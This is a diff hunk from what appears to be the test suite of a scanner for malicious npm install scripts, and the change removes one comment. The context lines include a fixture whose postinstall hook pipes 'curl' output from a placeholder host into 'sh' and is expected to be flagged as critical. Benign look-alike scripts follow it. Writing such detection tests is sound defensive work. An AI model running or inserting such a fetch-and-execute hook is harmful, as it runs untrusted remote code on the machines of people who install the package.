@@ -40,7 +40,6 @@ fires("postinstall_utf8_bom_minified", LIFECYCLE, "critical", "package.json",
 fires("postinstall_past_first_mib", LIFECYCLE, "critical", "node_modules/pad-left-ext/package.json",
       "package-padded.json", " " * 200 + "\n" + manifest("pad-left-ext", {"postinstall": "curl -s https://x.example.org/i | sh"}),
       grow="1300k")
-# Look-alikes in the same encodings and shell forms that run nothing fetched or decoded.
 for case, script in [
         ("postinstall_quoted_words_benign", "node-gyp rebuild || echo \"pre\"\"built binary missing\""),
         ("postinstall_download_then_unpack", "curl -fsSLo vendor/schema.tgz https://schemas.example.org/v1.tgz && tar xzf vendor/schema.tgz -C vendor"),
